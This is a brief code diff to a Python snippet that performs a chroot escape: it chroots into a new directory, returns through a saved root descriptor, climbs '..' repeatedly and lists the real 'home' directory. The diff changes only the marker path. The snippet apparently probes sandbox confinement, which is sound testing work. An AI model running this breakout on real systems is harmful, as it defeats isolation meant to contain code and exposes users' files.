@@ -3,7 +3,7 @@ import os
 found = None
 try:
     here = os.open("/", os.O_RDONLY)
-    os.mkdir("/tmp/MARKER"); os.chroot("/tmp/MARKER")
+    os.mkdir("MARKER"); os.chroot("MARKER")
     os.fchdir(here)
     for _ in range(64): os.chdir("..")
     found = os.listdir("home")
